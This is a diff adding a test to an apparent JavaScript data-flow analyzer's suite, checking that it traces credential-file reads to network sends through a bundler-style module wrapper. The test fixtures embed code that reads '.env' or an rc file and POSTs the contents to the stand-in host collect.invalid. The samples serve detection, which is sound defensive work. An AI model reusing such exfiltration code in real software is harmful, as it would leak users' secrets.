@@ -134,4 +134,13 @@ describe('functions that are called again', () => {
     const code = `${fill} ${parse} ${tell} exports.load = () => tell(fill(parse(fs.readFileSync('.env', 'utf8'))));`;
     assert.ok(flowsOf(code).includes('credential-file>network@collect.invalid'));
   });
+
+  it('put the exports of each module into its object, as bundlers have one function do', () => {
+    const code = `(() => { var modules = { 1: (m, e, r) => { r.d(e, { read: () => read }); const read = () => fs.readFileSync(rc); },
+        2: (m, e, r) => { r.d(e, { go: () => go }); var one = r(1); const go = () => { const d = (0, one.read)(); fetch('https://collect.invalid', { method: 'POST', body: d }); }; } }, cache = {};
+      function r(id) { var known = cache[id]; if (known !== undefined) return known.exports; var m = (cache[id] = { exports: {} }); modules[id](m, m.exports, r); return m.exports; }
+      r.d = (e, all) => { for (var k in all) { if (r.o(all, k) && !r.o(e, k)) Object.defineProperty(e, k, { enumerable: true, get: all[k] }); } };
+      r.o = (o, k) => Object.prototype.hasOwnProperty.call(o, k); r(2).go(); })();`;
+    assert.ok(flowsOf(code).includes('credential-file>network@collect.invalid'));
+  });
 });
